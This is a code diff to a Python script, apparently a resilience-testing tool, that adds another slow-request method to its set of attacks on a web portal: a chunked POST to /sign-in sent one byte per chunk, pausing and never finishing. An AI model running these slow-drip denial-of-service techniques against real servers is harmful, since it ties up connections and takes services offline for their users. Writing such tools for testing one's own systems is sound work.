@@ -21,6 +21,7 @@ RECEIVE_BUFFER_BYTES = 2048
 PIPELINED = 100
 BODY_BYTES = 16_000_000
 BODY_BYTES_PER_SECOND = 3000
+CRUMBS = 1000
 PAUSE_SECONDS = 0.5
 GONE = select.POLLRDHUP | select.POLLHUP | select.POLLERR
 
@@ -60,6 +61,15 @@ async def drip_photo(wire: socket.socket, target: AttackedPortal) -> None:
         await asyncio.sleep(PAUSE_SECONDS)
 
 
+async def crumble_form(wire: socket.socket, target: AttackedPortal) -> None:
+    """Send a form, as a visitor, in chunks of one byte."""
+    del target
+    await _send(wire, _head("POST /sign-in", "Transfer-Encoding: chunked", FORM))
+    while True:
+        await _send(wire, b"1\r\nx\r\n" * CRUMBS)
+        await asyncio.sleep(PAUSE_SECONDS)
+
+
 async def ask_and_never_read(wire: socket.socket, target: AttackedPortal) -> None:
     """Ask for a long document many times at once, and read no answer."""
     del target
@@ -79,6 +89,7 @@ WAYS: tuple[Way, ...] = (
     drip_head,
     keep_form_back,
     drip_photo,
+    crumble_form,
     ask_and_never_read,
     download_and_never_read,
 )
